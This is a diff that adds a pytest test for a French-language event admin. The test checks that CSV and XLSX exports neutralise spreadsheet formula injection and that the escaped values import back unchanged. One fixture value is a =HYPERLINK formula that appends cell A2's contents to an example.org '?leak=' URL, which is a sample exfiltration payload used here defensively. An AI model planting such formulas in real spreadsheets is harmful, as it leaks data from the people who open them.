@@ -390,6 +390,43 @@ class TestExport:
         response = dry_run(client, edition, upload)
         assert {line[1] for line in preview(response)} == {"À mettre à jour"}
 
+    @pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
+    def test_formulas_are_exported_as_text_and_import_back_unchanged(
+        self, client, organiser, edition, file_format
+    ):
+        title = '=HYPERLINK("https://example.org/?leak="&A2,"Voir la billetterie")'
+        event = make_event(edition, title=title, price="-5 € le jeudi", is_free=False)
+        event.booking_phone = "+33 5 00 00 00 00"
+        event.save()
+        make_session(event, aware(2027, 11, 13, 20), note="@équipe : salle 2")
+        exported = client.post(
+            reverse("admin:events_event_export") + f"?edition__id__exact={edition.pk}",
+            {"format": file_format},
+        )
+        if file_format == XLSX_FORMAT:
+            sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+            cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+            # Text cells, never formulas: the sheet runs nothing when opened.
+            assert cells[title] == "s"
+            assert "f" not in set(cells.values())
+        else:
+            rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+            cells = dict(zip(rows[0], rows[1], strict=True))
+            assert cells["titre"] == "'" + title
+            assert cells["téléphone de réservation"] == "'+33 5 00 00 00 00"
+            assert cells["remarque"] == "'@équipe : salle 2"
+        name = "programme.xlsx" if file_format == XLSX_FORMAT else "programme.csv"
+        response = dry_run(client, edition, SimpleUploadedFile(name, exported.content), file_format)
+        assert {line[1] for line in preview(response)} == {"À mettre à jour"}
+        import_file(client, edition, SimpleUploadedFile(name, exported.content), file_format)
+        event.refresh_from_db()
+        assert (event.title, event.price, event.booking_phone) == (
+            title,
+            "-5 € le jeudi",
+            "+33 5 00 00 00 00",
+        )
+        assert event.sessions.get().note == "@équipe : salle 2"
+
     def test_xlsx_export_of_a_filtered_session_list(self, client, organiser, edition):
         import_file(client, edition, csv_file(twenty_rows()))
         exported = client.post(
